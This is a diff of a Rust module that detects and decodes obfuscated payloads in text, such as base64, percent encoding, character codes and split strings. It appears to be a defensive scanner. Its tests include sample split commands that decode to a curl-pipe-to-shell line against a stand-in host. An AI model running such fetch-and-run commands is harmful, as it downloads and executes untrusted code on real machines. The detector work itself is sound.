@@ -1,7 +1,7 @@
 //! Payloads found in text (base64, hex, percent, escapes, character codes, split strings), decoded within a budget.
 //!
-//! The one in-text decoder; must not know what the payload means. Each level of decoding yields at most as many bytes
-//! as the text that it was found in, and there are two levels, so the work is bounded by the size of the document.
+//! The one in-text decoder; must not know what the payload means. There are two levels of decoding, and together they
+//! yield at most twice as many bytes as the document has.
 
 use std::ops::Range;
 use std::sync::LazyLock;
@@ -75,7 +75,7 @@ pub struct Run {
 /// Every payload of a text, in the order of their places, payloads inside payloads after the one that holds them.
 pub fn payloads(text: &str) -> Vec<Payload> {
     let mut found = Vec::new();
-    let mut budget = text.len();
+    let mut budget = text.len().saturating_mul(usize::from(DEPTH));
     for run in runs(text) {
         let Some(decoded) = run.text else { continue };
         collect(&mut found, decoded, run.span.start, run.encoding, 1, &mut budget);
@@ -97,11 +97,14 @@ fn collect(found: &mut Vec<Payload>, text: String, offset: usize, encoding: Enco
     }
 }
 
-static ESCAPED: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?:\\x[0-9a-f]{2}|\\u00[0-9a-f]{2}|\\u\{[0-9a-f]{1,6}\}){4,}"));
+static ESCAPED: LazyLock<Regex> =
+    LazyLock::new(|| pattern(r"(?:\\x[0-9a-f]{2}|\\u00[0-9a-f]{2}|\\u\{[0-9a-f]{1,6}\}){4,}"));
 static PERCENT: LazyLock<Regex> = LazyLock::new(|| pattern(r"(?:%[0-9a-f]{2}[\w.~/+-]{0,3}){6,}"));
 static CODES: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b[0-9]{2,3}(?:[ \t\r\n]*,[ \t\r\n]*[0-9]{2,3}){7,}\b"));
 static SPLIT: LazyLock<Regex> = LazyLock::new(|| {
-    pattern(r#"["'][\w $:/.@|&;~-]{1,60}["'](?:[ \t]*\+[ \t]*["'][\w $:/.@|&;~-]{1,60}["']){1,}|\b[a-z]{1,6}(?:''|"")[a-z]{1,6}(?:(?:''|"")[a-z]{1,6})*\b"#)
+    pattern(
+        r#"["'][\w $:/.@|&;~-]{1,60}["'](?:[ \t]*\+[ \t]*["'][\w $:/.@|&;~-]{1,60}["']){1,}|\b[a-z]{1,6}(?:''|"")[a-z]{1,6}(?:(?:''|"")[a-z]{1,6})*\b"#,
+    )
 });
 
 fn pattern(text: &str) -> Regex {
@@ -122,7 +125,7 @@ pub fn runs(text: &str) -> Vec<Run> {
         found.extend(matching(&PERCENT, bytes, Encoding::Percent, unpercent));
     }
     found.extend(matching(&CODES, bytes, Encoding::Codes, uncode));
-    found.extend(matching(&SPLIT, bytes, Encoding::Split, unsplit));
+    split_runs(bytes, &mut found);
     found.sort_by_key(|run| run.span.start);
     found
 }
@@ -256,16 +259,32 @@ fn unpercent(bytes: &[u8]) -> Option<String> {
 
 fn uncode(bytes: &[u8]) -> Option<String> {
     let text = std::str::from_utf8(bytes).ok()?;
-    text.split(',')
-        .map(|code| code.trim().parse::<u8>().ok().filter(u8::is_ascii).map(char::from))
-        .collect()
+    text.split(',').map(|code| code.trim().parse::<u8>().ok().filter(u8::is_ascii).map(char::from)).collect()
 }
 
-/// Takes out what splits: quotes, pluses and the blanks around them. What a single piece says already is not repeated.
-fn unsplit(bytes: &[u8]) -> Option<String> {
+/// How much of its line is shown around a split word, in bytes to each side.
+const SPLIT_REACH: usize = 200;
+
+/// Lines with literals joined by `+`, or with words broken by empty quotes, with all of that taken out: what is split
+/// says little without the rest of its line. Each byte is used once.
+fn split_runs(bytes: &[u8], found: &mut Vec<Run>) {
     static JOINT: LazyLock<Regex> = LazyLock::new(|| pattern(r#"["'][ \t]*\+[ \t]*["']|''|"""#));
-    let joined = JOINT.replace_all(bytes, &b""[..]);
-    String::from_utf8(joined.into_owned()).ok().map(|text| text.trim_matches(['"', '\'']).to_owned())
+    let mut used = 0;
+    for split in SPLIT.find_iter(bytes) {
+        if split.start() < used {
+            continue;
+        }
+        let low = split.start().saturating_sub(SPLIT_REACH).max(used);
+        let high = split.end().saturating_add(SPLIT_REACH).min(bytes.len());
+        let left = bytes.get(low..split.start()).unwrap_or(&[]);
+        let right = bytes.get(split.end()..high).unwrap_or(&[]);
+        let start = left.iter().rposition(|byte| *byte == b'\n').map_or(low, |at| low + at + 1);
+        let end = right.iter().position(|byte| *byte == b'\n').map_or(high, |at| split.end() + at);
+        let joined = JOINT.replace_all(bytes.get(start..end).unwrap_or(&[]), &b""[..]);
+        let text = Some(String::from_utf8_lossy(&joined).into_owned()).filter(|text| is_text(text));
+        found.push(Run { span: start..end, encoding: Encoding::Split, text });
+        used = end;
+    }
 }
 
 #[cfg(test)]
@@ -297,7 +316,8 @@ mod tests {
     fn wrapped_base64_and_utf16_are_read() {
         let long = "run this and then that; ".repeat(12);
         let encoded = base64(&long);
-        let wrapped = encoded.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join("\n");
+        let wrapped =
+            encoded.as_bytes().chunks(64).map(|line| String::from_utf8_lossy(line)).collect::<Vec<_>>().join("\n");
         assert_eq!(texts(&format!("x {wrapped} y")), [long.clone()]);
         let wide: Vec<u8> = "Write-Output hello".encode_utf16().flat_map(u16::to_le_bytes).collect();
         let encoded = base64::engine::general_purpose::STANDARD.encode(wide);
@@ -315,7 +335,8 @@ mod tests {
 
     #[test]
     fn split_strings_are_joined() {
-        assert_eq!(texts("exec('cur' + 'l http://sample.test' + ' | sh')"), ["curl http://sample.test | sh"]);
+        assert_eq!(texts("x\nexec('cur' + 'l http://a.test' + ' | sh')\n"), ["exec('curl http://a.test | sh')"]);
+        assert_eq!(texts("run c''u\"\"rl it"), ["run curl it"]);
     }
 
     #[test]
@@ -334,7 +355,7 @@ mod tests {
         #[test]
         fn any_text_stays_within_the_budget(text in "[A-Za-z0-9+/=%\\\\xu, \n\"']{0,400}") {
             let total: usize = payloads(&text).iter().map(|payload| payload.text.len()).sum();
-            proptest::prop_assert!(total <= text.len());
+            proptest::prop_assert!(total <= 2 * text.len());
         }
     }
 }
